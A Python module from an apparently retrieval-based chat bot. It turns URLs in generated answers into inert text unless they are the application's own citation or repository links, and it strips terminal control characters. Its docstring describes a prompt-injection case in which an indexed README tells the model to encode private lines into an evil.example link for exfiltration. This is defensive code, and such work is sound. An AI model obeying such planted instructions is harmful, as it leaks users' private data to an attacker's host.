"""Which URLs written in an answer may be live links; every other one is shown inert.

Indexed text is untrusted: a README can tell the model to put private lines into a link
(``[details](https://evil.example/x?d=<base64>)``). A chat client that makes such a URL
clickable, or unfurls it on its own, hands the data to whoever owns the host. So the
front ends keep live only the URLs the application builds itself: the answer's citation
links, the configured GitHub web URL and the pages of the repositories its sources come
from (which the asker may read, by construction). Any other URL is shown as text.
"""

from __future__ import annotations

import re
from collections.abc import Sequence
from dataclasses import dataclass
from urllib.parse import quote

from bot.answer import Source

# A URL as a chat client's or a terminal's link detection would find it: a scheme with
# "://", or a host that starts with "www.". Quotes, backticks, "|" and angle brackets end
# it (they end a URL in Markdown, Slack and HTML markup alike).
URL = re.compile(r"(?i:[a-z][a-z0-9+.\-]*://|www\.)[^\s<>\"'`|]+")
_TRAILING = ".,;:!?*_~"


@dataclass(frozen=True)
class LinkPolicy:
    """The URLs that may stay live links.

    URLs are compared without their fragment, which a browser never sends to a server,
    and without a trailing "/". ``any_url`` is for the application's own text (command
    results, notices), never for generated text.
    """

    allowed: frozenset[str] = frozenset()
    any_url: bool = False

    def permits(self, url: str) -> bool:
        return self.any_url or _key(url) in self.allowed


APP_TEXT = LinkPolicy(any_url=True)
NO_LINKS = LinkPolicy()


def answer_links(sources: Sequence[Source], web_base: str) -> LinkPolicy:
    """Links an answer built from ``sources`` may keep: the citations, the GitHub web URL
    and the repository pages of those sources."""
    base = web_base.rstrip("/")
    allowed = {_key(base)}
    for s in sources:
        url = s.link(web_base)
        if url.startswith(("http://", "https://")):
            allowed.add(_key(url))
            allowed.add(_key(f"{base}/{quote(s.chunk.repo, safe='/')}"))
    return LinkPolicy(frozenset(allowed))


def inert(url: str) -> str:
    """``url`` as text that no link detection turns back into a link.

    ``https[:]//evil[.]example/x`` keeps the URL readable for someone who wants to see
    what the model wrote, while neither the scheme nor any dotted host name is left for
    Slack, Teams or a terminal to recognise (a bare ``evil.com/x`` is linked too, so
    breaking only the scheme would not do). Backticks are dropped so the text can sit in
    inline code.
    """
    return url.replace("://", "[:]//").replace(".", "[.]").replace("`", "")


def split_url(match: re.Match[str]) -> tuple[str, str]:
    """A found URL and what follows it that belongs to the sentence (")" or a final ".")."""
    url = match.group(0)
    tail = ""
    while url:
        last = url[-1]
        unbalanced = (last == ")" and url.count("(") < url.count(")")) or (
            last == "]" and url.count("[") < url.count("]")
        )
        if last not in _TRAILING and not unbalanced:
            break
        url, tail = url[:-1], last + tail
    return url, tail


def defang(text: str, policy: LinkPolicy = NO_LINKS) -> str:
    """``text`` with every URL the policy does not permit made :func:`inert`."""

    def replace(match: re.Match[str]) -> str:
        url, tail = split_url(match)
        return (url if policy.permits(url) else inert(url)) + tail

    return URL.sub(replace, text)


# C0 controls (but tab and newline), DEL and C1 controls: ESC starts the sequences a
# terminal obeys (colours, cursor moves, OSC 8 hyperlinks, title changes), and the C1
# range holds their single-byte forms (CSI, OSC).
_CONTROL = re.compile(r"[\x00-\x08\x0b-\x1f\x7f-\x9f]")


def strip_controls(text: str) -> str:
    """``text`` without control characters, so it cannot drive a terminal."""
    return _CONTROL.sub("", text)


def _key(url: str) -> str:
    return url.split("#", 1)[0].rstrip("/")
